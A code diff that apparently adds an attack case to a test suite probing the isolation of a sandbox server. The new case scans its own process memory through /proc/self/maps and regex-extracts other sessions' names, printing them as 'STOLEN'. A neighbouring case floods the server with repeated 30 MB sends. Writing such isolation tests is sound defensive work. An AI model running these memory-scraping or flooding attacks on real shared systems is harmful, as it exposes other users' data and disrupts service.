@@ -83,6 +83,18 @@ def serve(name, ticket, get):
             except OSError: os._exit(0)
 agent.serve = serve
 """),
+    Attack(DESIGN, "memory of the server of boxes", before="""
+import ctypes, re
+found = set()
+for line in open("/proc/self/maps"):
+    place, modes, *_ = line.split(maxsplit=5)
+    first, last = (int(end, 16) for end in place.split("-"))
+    if modes.startswith("rw") and "[v" not in line and last - first < 1 << 28:
+        held = ctypes.string_at(first, last - first)
+        found |= set(re.findall(rb"/([a-z-]+)[+]02_attention[+]", held))
+for name in found:
+    if not name.startswith(b"m-memory-of"): print("STOLEN " + name.decode())
+"""),
     Attack(HARMING, "parts without end", harms=MACHINE, before=PARTS + """
 send_all(part(15 << 20) + bytes(15 << 20), again=True)
 """),
